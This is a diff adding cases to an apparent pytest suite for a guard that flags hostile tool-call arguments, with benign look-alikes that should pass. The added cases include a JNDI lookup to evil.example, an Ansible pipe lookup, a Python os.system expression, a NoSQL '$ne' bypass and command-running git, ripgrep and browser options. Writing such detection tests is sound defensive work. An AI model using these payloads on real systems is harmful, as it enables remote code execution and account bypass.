@@ -30,6 +30,15 @@ def rules(body: JsonObject, arguments: JsonObject) -> set[str]:
         ("merge_settings", {"settings": {"a": {"__proto__": {"b": 1}}}}, "member-inherited"),
         ("run_script", {"env": {"LD_PRELOAD": "x.so"}}, "variable-starts"),
         ("run_script", {"environment": ["BASH_ENV=x"]}, "variable-starts"),
+        ("git_config_set", {"key": "core.hooksPath", "value": "x"}, "word-option"),
+        ("rg_search", {"query": "--pre=x"}, "word-option"),
+        ("browse", {"options": {"args": ["--renderer-cmd-prefix=x"]}}, "word-option"),
+        ("build", {"extra_args": ["-o", "/home/me/.ssh"]}, "path-credential"),
+        ("log_line", {"message": "${jndi:ldap://evil.example/a}"}, "template-reaches"),
+        ("run_playbook", {"extra_vars": {"x": "{{ lookup('pipe','id') }}"}}, "template-reaches"),
+        ("rename", {"address": "__import__('os').system('x')"}, "expression-code"),
+        ("mongodb_find_user", {"password": {"$ne": None}}, "document-code"),
+        ("create_note", {"note": ".obsidian/plugins/x/main.js", "text": "a"}, "path-protected"),
     ],
 )
 def test_a_text_is_judged_whatever_it_means(name: str, arguments: JsonObject, rule: str) -> None:
@@ -47,6 +56,13 @@ def test_a_text_is_judged_whatever_it_means(name: str, arguments: JsonObject, ru
         ("ldap_add_note", {"text": "*)(uid=*))(|(uid=*"}),
         ("merge_settings", {"settings": {"a": {"proto": {"b": 1}}}}),
         ("run_script", {"env": {"PORT": "80"}}),
+        ("git_config_set", {"key": "user.name", "value": "x"}),
+        ("rg_search", {"query": "--pre flag"}),
+        ("browse", {"options": {"args": ["--window-size=800,600"]}}),
+        ("browse", {"options": {"note": "--renderer-cmd-prefix=x"}}),
+        ("build", {"extra_args": ["-o", "/work/out"]}),
+        ("search_code", {"pattern": "${jndi:ldap"}),
+        ("create_note", {"text": "${jndi:ldap://evil.example/a}"}),
     ],
 )
 def test_honest_texts_of_the_same_kinds_pass(name: str, arguments: JsonObject) -> None:
